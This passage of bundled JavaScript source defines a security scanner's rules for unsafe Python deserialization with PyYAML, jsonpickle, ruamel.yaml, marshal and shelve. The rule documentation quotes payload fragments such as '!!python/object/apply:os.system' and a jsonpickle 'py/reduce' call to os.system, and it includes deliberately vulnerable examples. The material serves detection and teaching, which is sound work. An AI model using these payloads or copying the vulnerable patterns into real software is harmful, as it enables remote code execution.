  const args2 = list.children.filter((c) => c.type !== "comment");
  const last = args2[args2.length - 1];
  if (!last) return void 0;
  return { line: last.endRow + 1, column: last.endCol + 1, endLine: last.endRow + 1, endColumn: last.endCol + 1, newText: `, ${text}` };
}
function fix(description2, edits) {
  const present = edits.filter((e) => e !== void 0);
  return present.length === edits.length && present.length ? { description: description2, edits: present } : void 0;
}
function unpicklingMessage(what, advice) {
  return (m) => {
    switch (m.via) {
      case "subclass":
        return `${code(m.subclass.name)} subclasses ${m.target} and deserializes its input with ${what}, which can run arbitrary code. ${advice}`;
      case "reference":
        return `${spelled(m)} is passed as a callable: every value it is applied to is deserialized with ${what}, which can run arbitrary code. ${advice}`;
      default:
        return `${spelled(m)} deserializes with ${what}, which runs whatever code the bytes describe. ${advice}`;
    }
  };
}

// src/rules/python/PYTHON-LANG-SEC-041.ts
var SAFE_LOADERS = /* @__PURE__ */ new Set(["yaml.SafeLoader", "yaml.CSafeLoader", "yaml.BaseLoader", "yaml.CBaseLoader"]);
var UNSAFE_LOADERS = /* @__PURE__ */ new Set(["yaml.Loader", "yaml.UnsafeLoader", "yaml.CLoader", "yaml.CUnsafeLoader"]);
var FULL_LOADERS = /* @__PURE__ */ new Set(["yaml.FullLoader", "yaml.CFullLoader"]);
var SAFE_EQUIVALENT = { FullLoader: "SafeLoader", CFullLoader: "CSafeLoader" };
function classify(names) {
  if (names.some((n) => UNSAFE_LOADERS.has(n))) return "unsafe";
  if (names.some((n) => FULL_LOADERS.has(n))) return "full";
  if (names.length && names.every((n) => SAFE_LOADERS.has(n))) return "safe";
  return void 0;
}
function checkLoad(m) {
  const given = m.args.find("Loader", 1);
  const loader = given?.type === "none" ? void 0 : given;
  const safeName = m.target.endsWith("_all") ? "safe_load_all" : "safe_load";
  if (!loader) {
    if (m.args.mayBeHidden("Loader", 1)) {
      return {
        confidence: "medium",
        message: `${spelled(m)} receives its Loader through \`*args\`/\`**kwargs\`; unless it is \`SafeLoader\`, YAML tags such as \`!!python/object/apply\` run arbitrary code. Use \`yaml.${safeName}\`.`
      };
    }
    const attribute = calleeAttributeName(m.node);
    return {
      message: `${spelled(m)} without a Loader uses an unsafe loader on PyYAML < 6 (\`Loader\` before 5.1, an exploitable \`FullLoader\` until 5.4): YAML tags such as \`!!python/object/apply:os.system\` run arbitrary code. Use \`yaml.${safeName}\`.`,
      ...attribute ? { fix: fix(`Use yaml.${safeName}`, [replaceNode(attribute, safeName)]) } : {}
    };
  }
  const { own, ancestors } = classNamesOf(m, loader);
  const known = [...own, ...ancestors].filter((n) => !n.startsWith("<local>."));
  const kind = classify(known) ?? "unknown";
  const loaderText = m.model.text(loader).replace(/\s+/g, "");
  switch (kind) {
    case "safe":
      return null;
    case "unsafe":
      return {
        message: `${spelled(m)} with ${code(loaderText)} constructs arbitrary Python objects: tags such as \`!!python/object/apply:os.system\` run code. Use \`yaml.${safeName}\` (or \`Loader=yaml.SafeLoader\`).`
      };
    case "full":
      return fullLoaderOutcome(m, `${spelled(m)} with ${code(loaderText)}`, loaderFix(loader, m));
    case "unknown":
      return {
        confidence: "medium",
        message: `${spelled(m)} uses the loader ${code(loaderText)}, which is not known to be safe; loaders other than \`SafeLoader\`/\`BaseLoader\` construct Python objects from tags and can run code. Use \`yaml.${safeName}\`.`
      };
  }
}
function loaderFix(loader, m) {
  if (loader.type !== "attribute") return void 0;
  const name2 = childByField(loader, "attribute");
  const safe = name2 && SAFE_EQUIVALENT[m.model.text(name2)];
  return name2 && safe ? fix(`Use yaml.${safe}`, [replaceNode(name2, safe)]) : void 0;
}
function fullLoaderOutcome(m, what, fixed) {
  const severity = "medium";
  const confidence = "high";
  return {
    severity,
    confidence,
    message: `${what} uses FullLoader, which builds arbitrary Python objects from tags; it allowed code execution before PyYAML 5.4 (CVE-2020-1747, CVE-2020-14343) and still exposes more than data. Use \`yaml.safe_load\` for untrusted input.`,
    ...fixed ? { fix: fixed } : {}
  };
}
function checkFullLoad(m) {
  const attribute = calleeAttributeName(m.node);
  const safeName = m.target.endsWith("_all") ? "safe_load_all" : "safe_load";
  return fullLoaderOutcome(m, spelled(m), attribute ? fix(`Use yaml.${safeName}`, [replaceNode(attribute, safeName)]) : void 0);
}
var unsafeMessage = (m) => `${spelled(m)} uses PyYAML's unsafe loader: tags such as \`!!python/object/apply:os.system\` run arbitrary code. Use \`yaml.safe_load\` for anything not fully trusted.`;
var LOADER_METHODS = ["get_single_data", "get_data"];
var methodsOf = (classes) => [...classes].flatMap((c) => LOADER_METHODS.map((m) => `${c}().${m}`));
var PYTHON_LANG_SEC_041_default = defineRule({
  id: "PYTHON-LANG-SEC-041",
  name: "Unsafe PyYAML Load",
  language: "python",
  severity: "high",
  confidence: "high",
  precision: "high",
  cwe: ["CWE-502"],
  owasp: ["A08:2021"],
  compliance: DESERIALIZATION_COMPLIANCE,
  tags: ["security", "deserialization", "yaml", "pyyaml", "rce", "cwe-502"],
  bundles: ["lang", "deserialization"],
  banditIds: ["B506"],
  similar: ["PYTHON-LANG-SEC-043", "PYTHON-LANG-SEC-040", "PYTHON-LANG-SEC-042"],
  prefilter: ["yaml"],
  sinks: [
    { call: ["yaml.load", "yaml.load_all"], check: checkLoad, message: unsafeMessage },
    { call: ["yaml.unsafe_load", "yaml.unsafe_load_all", ...methodsOf(UNSAFE_LOADERS)], message: unsafeMessage },
    { call: ["yaml.full_load", "yaml.full_load_all"], check: checkFullLoad, message: unsafeMessage },
    { call: methodsOf(FULL_LOADERS), check: (m) => fullLoaderOutcome(m, spelled(m), void 0), message: unsafeMessage }
  ],
  docs: {
    summary: "Detects PyYAML loads with an unsafe loader (`yaml.load` without `Loader` or with `Loader`/`UnsafeLoader`/`FullLoader`, `yaml.unsafe_load`, `yaml.full_load`), which can construct arbitrary Python objects and run code.",
    description: 'PyYAML\'s non-safe loaders interpret Python-specific tags: `!!python/object/apply:os.system ["id"]` calls a function, `!!python/object/new:` instantiates any class, `!!python/name:` imports any attribute. A YAML document is then no longer data but a program. This rule reports `yaml.load` and `yaml.load_all` when the `Loader` argument (keyword or second positional argument) is missing, is `Loader`, `UnsafeLoader`, `CLoader`, `CUnsafeLoader`, `FullLoader` or `CFullLoader`, or is a loader it cannot prove safe; it reports `yaml.unsafe_load`/`unsafe_load_all` always, and `yaml.full_load`/`full_load_all` (and `FullLoader`) at medium severity. Loaders are resolved through aliases (`from yaml import CLoader as L`), the `yaml.loader`/`yaml.cyaml` modules, and local subclasses (`class MyLoader(yaml.SafeLoader)` is safe).',
    securityImplications: 'Whoever controls the YAML text (a configuration file from a pull request, an uploaded manifest, a CI job definition, an API body) runs code in the loading process: `!!python/object/apply:subprocess.check_output [["sh", "-c", "..."]]` is enough. Before PyYAML 5.1 plain `yaml.load(data)` was unsafe by default; from 5.1 to 5.3.1 the default `FullLoader` was still exploitable (CVE-2020-1747, CVE-2020-14343); since 6.0 `Loader` is mandatory, so old code either crashes or gets "fixed" by adding `Loader=yaml.Loader`, which restores the unsafe behaviour explicitly.',
    howToFix: "Use `yaml.safe_load` / `yaml.safe_load_all` (or `Loader=yaml.SafeLoader`, `yaml.CSafeLoader` for speed). They build only plain data: dicts, lists, strings, numbers, booleans, dates. If you need custom types, register explicit constructors on a `SafeLoader` subclass with `add_constructor` rather than enabling Python tags.",
    fixHint: "Use yaml.safe_load(...) or pass Loader=yaml.SafeLoader.",
    vulnerableExample: [
      "import yaml",
      "",
      "def read_manifest(text):",
      "    return yaml.load(text, Loader=yaml.Loader)  # !!python/object/apply runs code"
    ].join("\n"),
    safeExample: [
      "import yaml",
      "",
      "def read_manifest(text):",
      "    return yaml.safe_load(text)  # plain data only"
    ].join("\n"),
    detectionScope: "Calls of `yaml.load`, `yaml.load_all` (Loader checked as keyword `Loader` or positional argument 1), `yaml.unsafe_load`, `yaml.unsafe_load_all`, `yaml.full_load`, `yaml.full_load_all`, and direct use of an unsafe loader object (`yaml.Loader(stream).get_single_data()`), resolved through imports, aliases, rebinding and dynamic imports with constant names. Safe: `SafeLoader`, `CSafeLoader`, `BaseLoader`, `CBaseLoader` and local subclasses of them. A Loader passed through `**kwargs` or a name the analysis cannot resolve (a parameter, an attribute) is reported at medium confidence. `yaml.dump`, `yaml.safe_load` and `yaml.safe_dump` are never reported. Fixes: `yaml.load(x)` becomes `yaml.safe_load(x)`, `yaml.full_load` becomes `yaml.safe_load` and `Loader=yaml.FullLoader` becomes `Loader=yaml.SafeLoader`; an explicit `Loader`/`UnsafeLoader` gets no automatic fix because the code may rely on Python tags. ruamel.yaml is covered by PYTHON-LANG-SEC-043.",
    references: [
      { title: "PyYAML: yaml.load(input) deprecation (why load is unsafe)", url: "https://github.com/yaml/pyyaml/wiki/PyYAML-yaml.load(input)-Deprecation" },
      { title: "PyYAML documentation: loading YAML", url: "https://pyyaml.org/wiki/PyYAMLDocumentation" },
      { title: "CVE-2020-14343: PyYAML FullLoader arbitrary code execution", url: "https://nvd.nist.gov/vuln/detail/CVE-2020-14343" },
      { title: "CVE-2020-1747: PyYAML FullLoader arbitrary code execution", url: "https://nvd.nist.gov/vuln/detail/CVE-2020-1747" },
      { title: "CVE-2017-18342: PyYAML load() unsafe by default", url: "https://nvd.nist.gov/vuln/detail/CVE-2017-18342" },
      { title: "Bandit B506: yaml_load", url: "https://bandit.readthedocs.io/en/latest/plugins/b506_yaml_load.html" },
      { title: "Ruff S506: unsafe-yaml-load", url: "https://docs.astral.sh/ruff/rules/unsafe-yaml-load/" },
      ...DESERIALIZATION_REFERENCES.slice(0, 3)
    ],
    faq: [
      {
        question: "We only load our own configuration files. Is this a false positive?",
        answer: "It is safe only while nobody else can write those files. Configuration travels through pull requests, deployment tooling and shared volumes; `safe_load` reads every normal configuration file identically, so switching costs nothing."
      },
      {
        question: "Is FullLoader safe?",
        answer: "Not for untrusted input. It was the default between PyYAML 5.1 and 5.4 and was exploitable (CVE-2020-1747, CVE-2020-14343). Later versions block the known gadgets, but it still instantiates Python objects from tags. It is reported at medium severity."
      },
      {
        question: "Why is `yaml.load(data, Loader=MyLoader)` reported at medium confidence?",
        answer: "The analysis could not tell what `MyLoader` is (a parameter, an attribute, or a class from another module). If it derives from `SafeLoader`, define or import it so the base is visible, or suppress the finding with a justification."
      },
      {
        question: "Does this cover ruamel.yaml?",
        answer: "No: ruamel.yaml has its own API and rule, PYTHON-LANG-SEC-043."
      }
    ]
  }
});

// src/rules/python/PYTHON-LANG-SEC-042.ts
var ADVICE = "Decode untrusted JSON with `json.loads` and build objects explicitly (dataclasses, pydantic).";
var message2 = unpicklingMessage("jsonpickle, whose `py/reduce` and `py/object` tags call arbitrary functions", ADVICE);
function check(m) {
  if (m.via !== "call" || m.target === "jsonpickle.Unpickler") return {};
  const safe = m.args.find("safe");
  if (!safe || literalTruth(safe, m.model.tree.source) !== false) return {};
  return {
    message: `${spelled(m)} with \`safe=False\` also evaluates \`py/repr\` values with eval(), on top of \`py/reduce\`/\`py/object\` tags that call arbitrary functions. ${ADVICE}`
  };
}
var PYTHON_LANG_SEC_042_default = defineRule({
  id: "PYTHON-LANG-SEC-042",
  name: "Jsonpickle Deserialization of Untrusted Data",
  language: "python",
  severity: "high",
  confidence: "high",
  precision: "high",
  cwe: ["CWE-502"],
  owasp: ["A08:2021"],
  compliance: DESERIALIZATION_COMPLIANCE,
  tags: ["security", "deserialization", "jsonpickle", "json", "rce", "cwe-502"],
  bundles: ["lang", "deserialization"],
  banditIds: ["B301"],
  similar: ["PYTHON-LANG-SEC-040", "PYTHON-LANG-SEC-041"],
  prefilter: ["jsonpickle"],
  sinks: [{ call: ["jsonpickle.decode", "jsonpickle.loads", "jsonpickle.Unpickler"], subclasses: true, references: true, check, message: message2 }],
  docs: {
    summary: "Detects jsonpickle decoding (`jsonpickle.decode`, `jsonpickle.loads`, `jsonpickle.Unpickler`), which rebuilds arbitrary Python objects and can run code.",
    description: 'jsonpickle looks like JSON but carries pickle semantics: `{"py/reduce": [{"py/function": "os.system"}, ...]}` calls a function while decoding, `py/object` instantiates any importable class, and with `safe=False` `py/repr` values are passed to `eval`. The `safe` flag does not make decoding safe: `py/reduce` and `py/object` are honoured either way (CVE-2020-22083, disputed by the project as intended behaviour). This rule reports `jsonpickle.decode`, `jsonpickle.loads`, `jsonpickle.unpickler.decode`, and construction of `jsonpickle.Unpickler` (and local subclasses), through aliases, rebinding, constant dynamic imports, and when passed as a callback.',
    securityImplications: "jsonpickle payloads are text, so they pass through places binary pickles would not: HTTP request bodies, cookies, database columns, Redis values, message queues and log pipelines. Anyone who can write such a value runs code in the decoding process.",
    howToFix: "Parse untrusted input with `json.loads` and construct your objects explicitly, for example with dataclasses, `pydantic` models or `marshmallow` schemas, which validate fields instead of importing classes named by the data. Keep jsonpickle for data the process produced itself and no one else can modify.",
    fixHint: "Use json.loads plus explicit construction (dataclasses/pydantic) instead of jsonpickle.decode.",
    vulnerableExample: [
      "import jsonpickle",
      "from flask import request",
      "",
      '@app.post("/cart")',
      "def restore_cart():",
      "    cart = jsonpickle.decode(request.get_data(as_text=True))  # py/reduce runs code",
      "    return cart.total()"
    ].join("\n"),
    safeExample: [
      "import json",
      "from flask import request",
      "",
      '@app.post("/cart")',
      "def restore_cart():",
      "    cart = Cart.from_dict(json.loads(request.get_data()))  # explicit, validated fields",
      "    return cart.total()"
    ].join("\n"),
    detectionScope: "Calls of `jsonpickle.decode`, `jsonpickle.loads`, `jsonpickle.unpickler.decode` and `jsonpickle.Unpickler` / `jsonpickle.unpickler.Unpickler` resolved through imports, aliases, rebinding and constant dynamic imports; instantiation of local subclasses of `Unpickler`; the decode functions passed uncalled as callbacks (medium confidence). `jsonpickle.encode`/`dumps` are not findings. Every decode is reported whatever its `safe`, `classes` or `keys` arguments, because none of them blocks `py/reduce`.",
    references: [
      { title: "jsonpickle documentation (security warning)", url: "https://jsonpickle.github.io/" },
      { title: "jsonpickle API: decode", url: "https://jsonpickle.github.io/api.html" },
      { title: "CVE-2020-22083 / GHSA-j66q-qmrc-89rx: jsonpickle remote code execution in decode()", url: "https://github.com/advisories/GHSA-j66q-qmrc-89rx" },
      { title: "Bandit B301: pickle (includes jsonpickle)", url: "https://bandit.readthedocs.io/en/latest/blacklists/blacklist_calls.html#b301-pickle" },
      { title: "Ruff S301: suspicious-pickle-usage (includes jsonpickle)", url: "https://docs.astral.sh/ruff/rules/suspicious-pickle-usage/" },
      ...DESERIALIZATION_REFERENCES.slice(0, 3)
    ],
    faq: [
      {
        question: "We pass `safe=True`. Why is it still reported?",
        answer: "`safe` only disables `eval` of legacy `py/repr` values. `py/reduce` and `py/object`, which call functions and instantiate classes, are still processed; published exploits use them."
      },
      {
        question: "Is jsonpickle output not just JSON?",
        answer: "It is JSON syntax with pickle semantics. Reading it with `json.loads` is safe; reading it with jsonpickle is not."
      },
      { question: "Is `jsonpickle.encode` reported?", answer: "No. Encoding runs no attacker-controlled code." }
    ]
  }
});

// src/rules/python/PYTHON-LANG-SEC-043.ts
var ADVICE2 = 'Use `YAML()` (round-trip) or `YAML(typ="safe")`, which build only plain data.';
function typValues(m, typ, scope) {
  if (typ.type === "list" || typ.type === "tuple") {
    const out2 = [];
    for (const item of typ.children) {
      const s2 = m.model.constantString(item, scope);
      if (s2 === void 0) return void 0;
      out2.push(s2);
    }
    return out2;
  }
  const s = m.model.constantString(typ, scope);
  return s === void 0 ? void 0 : [s];
}
function checkInstanceLoad(m) {
  if (!m.receiver) return null;
  const typ = m.receiver.args.find("typ");
  if (!typ) {
    if (!m.receiver.args.hasKwArgs) return null;
    return {
      severity: "medium",
      confidence: "low",
      message: `${spelled(m)} on a \`YAML(...)\` whose \`typ\` may come from \`**kwargs\`; with \`typ="unsafe"\` YAML tags such as \`!!python/object/apply\` run arbitrary code. ${ADVICE2}`
    };
  }
  const values = typValues(m, typ, m.receiver.scope);
  if (values === void 0) {
    return {
      confidence: "medium",
      message: `${spelled(m)} on a \`YAML(typ=...)\` whose type the analysis cannot evaluate; with \`typ="unsafe"\` YAML tags such as \`!!python/object/apply\` run arbitrary code. ${ADVICE2}`
    };
  }
  if (!values.includes("unsafe")) return null;
  return {
    message: `${spelled(m)} on \`YAML(typ="unsafe")\` constructs arbitrary Python objects from tags such as \`!!python/object/apply:os.system\`, which runs code. ${ADVICE2}`
  };
}
var SAFE_LEGACY_LOADERS = /* @__PURE__ */ new Set([
  "ruamel.yaml.SafeLoader",
  "ruamel.yaml.CSafeLoader",
  "ruamel.yaml.BaseLoader",
  "ruamel.yaml.CBaseLoader",
  "ruamel.yaml.RoundTripLoader"
]);
function checkLegacyLoad(m) {
  const given = m.args.find("Loader", 1);
  const loader = given?.type === "none" ? void 0 : given;
  if (!loader) {
    if (m.args.mayBeHidden("Loader", 1)) {
      return { confidence: "medium", message: `${spelled(m)} may receive its Loader through \`*args\`/\`**kwargs\`; unless it is a safe loader, YAML tags run arbitrary code. ${ADVICE2}` };
    }
    return { message: `${spelled(m)} without a Loader uses ruamel.yaml's unsafe loader: tags such as \`!!python/object/apply:os.system\` run arbitrary code. ${ADVICE2}` };
  }
  const { own, ancestors } = classNamesOf(m, loader);
  const known = [...own, ...ancestors].filter((n) => !n.startsWith("<local>."));
  if (known.length && known.every((n) => SAFE_LEGACY_LOADERS.has(n))) return null;
  const loaderText = m.model.text(loader).replace(/\s+/g, "");
  const recognised = known.some((n) => n.startsWith("ruamel.yaml."));
  return {
    ...recognised ? {} : { confidence: "medium" },
    message: `${spelled(m)} with ${code(loaderText)} ${recognised ? "constructs arbitrary Python objects" : "uses a loader not known to be safe"}: YAML tags such as \`!!python/object/apply\` can run code. ${ADVICE2}`
  };
}
var PYTHON_LANG_SEC_043_default = defineRule({
  id: "PYTHON-LANG-SEC-043",
  name: "Unsafe ruamel.yaml Load",
  language: "python",
  severity: "high",
  confidence: "high",
  precision: "high",
  cwe: ["CWE-502"],
  owasp: ["A08:2021"],
  compliance: DESERIALIZATION_COMPLIANCE,
  tags: ["security", "deserialization", "yaml", "ruamel", "rce", "cwe-502"],
  bundles: ["lang", "deserialization"],
  banditIds: ["B506"],
  similar: ["PYTHON-LANG-SEC-041", "PYTHON-LANG-SEC-040"],
  prefilter: ["ruamel"],
  sinks: [
    { call: ["ruamel.yaml.YAML().load", "ruamel.yaml.YAML().load_all"], check: checkInstanceLoad, message: (m) => `${spelled(m)} may use an unsafe YAML loader. ${ADVICE2}` },
    { call: ["ruamel.yaml.load", "ruamel.yaml.load_all"], check: checkLegacyLoad, message: (m) => `${spelled(m)} may use an unsafe YAML loader. ${ADVICE2}` }
  ],
  docs: {
    summary: 'Detects ruamel.yaml loads that can construct arbitrary Python objects: `YAML(typ="unsafe").load` and the legacy `ruamel.yaml.load` without a safe Loader.',
    description: 'ruamel.yaml\'s `YAML()` instance is safe by default: the round-trip (`rt`) and `safe` types build only data. `YAML(typ="unsafe")` (also `typ=["unsafe"]`) enables Python tags such as `!!python/object/apply:` and `!!python/object/new:`, which call functions and instantiate classes while loading. The PyYAML-compatible module functions of ruamel.yaml before 0.18 (`ruamel.yaml.load`, `load_all`) used the unsafe loader when no `Loader` was given. This rule reports `load`/`load_all` on instances constructed with `typ="unsafe"` (followed through variables and `with` statements), and the legacy functions without a Loader or with one that is not `SafeLoader`, `CSafeLoader`, `BaseLoader`, `CBaseLoader` or `RoundTripLoader`.',
    securityImplications: "Whoever controls the YAML text (configuration in a repository, a manifest uploaded to a service, a document fetched over the network) runs code in the loading process, with its files, network access and credentials.",
    howToFix: 'Use `YAML()` (round-trip, keeps comments) or `YAML(typ="safe")`. If documents need custom types, register them explicitly with `yaml.register_class(MyType)`, which loads only the classes you list. Replace legacy `ruamel.yaml.load(...)` calls with a `YAML()` instance: the module-level functions were removed in 0.18.',
    fixHint: 'Use YAML() or YAML(typ="safe") and register_class for custom types instead of typ="unsafe".',
    vulnerableExample: [
      "from ruamel.yaml import YAML",
      "",
      "def read_job(text):",
      '    yaml = YAML(typ="unsafe")',
      "    return yaml.load(text)  # !!python/object/apply runs code"
    ].join("\n"),
    safeExample: [
      "from ruamel.yaml import YAML",
      "",
      "def read_job(text):",
      '    yaml = YAML(typ="safe")',
      "    return yaml.load(text)  # plain data only"
    ].join("\n"),
    detectionScope: '`load`/`load_all` on `ruamel.yaml.YAML(...)` instances whose constructor received `typ="unsafe"` or a list containing it, with the constructor found through assignments and `with ... as` bindings in the same file; a `typ` the analysis cannot evaluate is reported at medium confidence, one possibly hidden in `**kwargs` at low confidence. Legacy `ruamel.yaml.load`/`load_all` (also `ruamel.yaml.main`, `ruamel_yaml`) with the `Loader` checked as keyword or position 1. Not covered: instances configured after construction (`yaml.typ = ...`) or passed in from other modules. No automatic fix is offered: switching to `typ="safe"` changes the constructor that every use of the instance shares.',
    references: [
      { title: "ruamel.yaml documentation: basic usage and typ", url: "https://yaml.dev/doc/ruamel.yaml/basicuse/" },
      { title: 'ruamel.yaml documentation (0.18 changes, typ="unsafe" deprecation)', url: "https://yaml.dev/doc/ruamel.yaml" },
      { title: "ruamel.yaml on PyPI", url: "https://pypi.org/project/ruamel.yaml/" },
      ...DESERIALIZATION_REFERENCES.slice(0, 3)
    ],
    faq: [
      {
        question: "Is `YAML()` without arguments safe?",
        answer: "Yes. The default round-trip loader builds data only (with comments preserved); it is not reported."
      },
      {
        question: "We need our own classes in the YAML files.",
        answer: "Register them with `yaml.register_class(MyClass)` on a safe or round-trip instance; only those classes can then be constructed."
      },
      {
        question: "Does this cover PyYAML's `yaml.load`?",
        answer: "No: PyYAML is covered by PYTHON-LANG-SEC-041."
      }
    ]
  }
});

// src/rules/python/PYTHON-LANG-SEC-044.ts
function message3(m) {
  const head = m.via === "reference" ? `${spelled(m)} is passed as a callable: every value it is applied to is unmarshalled` : `${spelled(m)} unmarshals its input`;
  return `${head}. marshal is not secure against crafted data: it can crash the interpreter and builds code objects that callers may execute. Use a data-only format such as JSON for anything not produced by this process.`;
}
var PYTHON_LANG_SEC_044_default = defineRule({
  id: "PYTHON-LANG-SEC-044",
  name: "Marshal Deserialization of Untrusted Data",
  language: "python",
  severity: "medium",
  confidence: "high",
  precision: "high",
  cwe: ["CWE-502"],
  owasp: ["A08:2021"],
  compliance: DESERIALIZATION_COMPLIANCE,
  tags: ["security", "deserialization", "marshal", "cwe-502"],
  bundles: ["lang", "deserialization"],
  banditIds: ["B302"],
  similar: ["PYTHON-LANG-SEC-040", "PYTHON-LANG-SEC-045"],
  prefilter: ["marshal"],
  sinks: [{ call: ["marshal.load", "marshal.loads"], references: true, message: message3 }],
  docs: {
    summary: "Detects `marshal.load` and `marshal.loads`, which are not safe on data that could come from an untrusted source.",
    description: "`marshal` is CPython's internal format for `.pyc` files. Its documentation warns that it is not intended to be secure against erroneous or maliciously constructed data. Unlike pickle it cannot call functions while loading, but it reconstructs code objects, and crafted input has repeatedly crashed or corrupted the interpreter. This rule reports every `marshal.load` and `marshal.loads` call, also through aliases (`from marshal import loads as l`), rebinding, dynamic imports with constant names, and `marshal.loads` passed as a callback.",
    securityImplications: "A marshalled blob from an attacker can carry a code object that the application later runs (`exec`, `types.FunctionType`), which is the classic way of smuggling bytecode into caches and plugin systems, and malformed input can crash the process (denial of service) or trigger memory-safety bugs in the loader. The format also changes between Python versions, so data exchanged across versions breaks silently.",
    howToFix: "Use `marshal` only for data this process wrote and no one else can modify (for example a private cache under a directory the application owns). For data exchange use `json`, `msgpack` or Protocol Buffers. If bytes must travel, authenticate them with an HMAC (`hmac.compare_digest`) before loading.",
    fixHint: "Use json/msgpack for data exchange; keep marshal for private, integrity-protected caches only.",
    vulnerableExample: [
      "import marshal",
      "",
      "def load_plugin(blob):",
      "    code_obj = marshal.loads(blob)  # attacker bytes become bytecode",
      "    exec(code_obj)"
    ].join("\n"),
    safeExample: [
      "import json",
      "",
      "def load_settings(blob):",
      "    return json.loads(blob)  # data only"
    ].join("\n"),
    detectionScope: 'Calls of `marshal.load` and `marshal.loads` resolved through imports, aliases, `from marshal import *`, rebinding, `importlib.import_module("marshal")`/`__import__("marshal")`, `getattr(marshal, "loads")`, and `marshal.loads` passed uncalled as a callback (medium confidence). `marshal.dump`/`dumps` are not findings. Every call is reported regardless of the data\'s origin, because the analysis does not prove where bytes come from; suppress a reviewed call on private data with `# pathfinder: ignore[PYTHON-LANG-SEC-044]`.',
    references: [
      { title: "Python documentation: marshal (security warning)", url: "https://docs.python.org/3/library/marshal.html" },
      { title: "Bandit B302: marshal", url: "https://bandit.readthedocs.io/en/latest/blacklists/blacklist_calls.html#b302-marshal" },
      { title: "Ruff S302: suspicious-marshal-usage", url: "https://docs.astral.sh/ruff/rules/suspicious-marshal-usage/" },
      ...DESERIALIZATION_REFERENCES.slice(0, 3)
    ],
    faq: [
      {
        question: "marshal cannot call functions while loading. Why is it reported?",
        answer: "It can still hand the caller attacker-built code objects and crash the interpreter on malformed input; the Python documentation explicitly says it is not secure against malicious data. The severity is medium rather than high for that reason."
      },
      {
        question: "We use marshal for a cache we write ourselves.",
        answer: "That is the intended use. Make sure no other user or service can write the cache location, then suppress the finding with a justification."
      },
      { question: "Is `marshal.dumps` reported?", answer: `No. Only loading is dangerous; ${code("dump")}/${code("dumps")} are never reported.` }
    ]
  }
});

// src/rules/python/PYTHON-LANG-SEC-045.ts
function message4(m) {
  if (m.via === "subclass") {
    return `\`${m.subclass.name}\` subclasses ${m.target}: every value read from it is unpickled, which runs arbitrary code if someone else can write the underlying database. Use a data-only store (sqlite3 with JSON values, dbm with json.dumps).`;
  }
  return `${spelled(m)} opens a shelf whose values are unpickled on every read: whoever can write the database file runs code in this process. Keep shelves in private locations or store JSON in dbm/sqlite3 instead.`;
}
function check2(m) {
  if (m.target !== "shelve.open") return {};
  const flag = m.args.find("flag", 1);
  const value = flag && m.model.constantString(flag, m.scope);
  if (value !== "n") return {};
  return {
    severity: "low",
    confidence: "low",
    message: `${spelled(m)} with flag "n" creates a new empty shelf, so it reads back only what this process writes; values are still unpickled, so keep the file private.`
  };
}
var PYTHON_LANG_SEC_045_default = defineRule({
  id: "PYTHON-LANG-SEC-045",
  name: "Shelve Deserialization of Untrusted Data",
  language: "python",
  severity: "medium",
  confidence: "high",
  precision: "high",
  cwe: ["CWE-502"],
  owasp: ["A08:2021"],
  compliance: DESERIALIZATION_COMPLIANCE,
  tags: ["security", "deserialization", "shelve", "pickle", "cwe-502"],
  bundles: ["lang", "deserialization"],
  banditIds: ["B301"],
  similar: ["PYTHON-LANG-SEC-040", "PYTHON-LANG-SEC-044"],
  prefilter: ["shelve", "Shelf"],
  sinks: [
    {
      call: ["shelve.open", "shelve.Shelf", "shelve.DbfilenameShelf", "shelve.BsdDbShelf"],
      subclasses: true,
      check: check2,
      message: message4
    }
  ],
  docs: {
    summary: "Detects `shelve.open` and the `shelve.Shelf` classes, whose values are stored with pickle and unpickled on every read.",
    description: 'A shelf is a persistent dictionary: keys are strings, values are pickled into a `dbm` database. Reading `shelf[key]` calls `pickle.loads` on the stored bytes, so a shelf is exactly as trustworthy as its database file. This rule reports opening a shelf with `shelve.open`, `shelve.DbfilenameShelf`, `shelve.Shelf` or `shelve.BsdDbShelf`, and instantiating local subclasses of those classes. `shelve.open(path, "n")` always starts from an empty database and is reported at low severity.',
    securityImplications: "If the database file can be replaced or modified by anyone else (a shared or world-writable directory, a file shipped with user content, a cache volume mounted into several services, a file downloaded or extracted from an archive), the first read of a poisoned key runs arbitrary code with the privileges of the reading process.",
    howToFix: "Keep shelves only in directories the application alone can write, and never open a shelf received from someone else. For data that crosses a trust boundary, store JSON: `dbm.open(path)` with `json.dumps`/`json.loads` values, or `sqlite3` with JSON columns.",
    fixHint: "Store JSON values in dbm or sqlite3 instead of shelve for data others can write.",
    vulnerableExample: [
      "import shelve",
      "",
      "def read_profile(upload_path, user):",
      "    with shelve.open(upload_path) as db:  # an uploaded database: reading unpickles it",
      "        return db[user]"
    ].join("\n"),
    safeExample: [
      "import dbm",
      "import json",
      "",
      "def read_profile(path, user):",
      "    with dbm.open(path) as db:",
      "        return json.loads(db[user])  # data only"
    ].join("\n"),
    detectionScope: 'Calls of `shelve.open`, `shelve.Shelf`, `shelve.DbfilenameShelf` and `shelve.BsdDbShelf` resolved through imports, aliases, rebinding and constant dynamic imports, and instantiation of local subclasses of the shelf classes. The `flag` argument (keyword or position 1) lowers the severity when it is the constant `"n"`. Reads through the shelf object are not reported separately: the finding sits on the call that opens it. `dbm` itself stores bytes and is not reported.',
    references: [
      { title: "Python documentation: shelve (security warning)", url: "https://docs.python.org/3/library/shelve.html" },
      { title: "Bandit B301: pickle (includes shelve)", url: "https://bandit.readthedocs.io/en/latest/blacklists/blacklist_calls.html#b301-pickle" },
      { title: "Ruff S301: suspicious-pickle-usage", url: "https://docs.astral.sh/ruff/rules/suspicious-pickle-usage/" },
      ...DESERIALIZATION_REFERENCES.slice(0, 3)
    ],
    faq: [
      {
        question: "The shelf lives in our application's own directory. Is this a false positive?",
        answer: "If no other user, service or upload can write that file, the risk is low: suppress the finding with that justification. The rule cannot see file permissions, so it reports every shelf it opens."
      },
      {
        question: "Why is the finding on `shelve.open` and not on `db[key]`?",
        answer: "Every read of the shelf unpickles; reporting each subscript would flood the results. The call that opens the shelf is the one decision to review."
      },
      {
        question: 'Why is `shelve.open(path, "n")` still reported?',
        answer: "It starts from an empty database, so it reads back only what the process itself writes unless another process writes the same file concurrently. It is reported at low severity so that the use of pickle stays visible."
      }
    ]
  }
});

// src/rules/python/PYTHON-LANG-SEC-046.ts
var message5 = unpicklingMessage(
  "dill, a pickle extension that also rebuilds functions, lambdas and whole sessions",
  "Never load dill data that could come from an untrusted source; use a data-only format such as JSON."
);
var PYTHON_LANG_SEC_046_default = defineRule({
  id: "PYTHON-LANG-SEC-046",
  name: "Dill Deserialization of Untrusted Data",
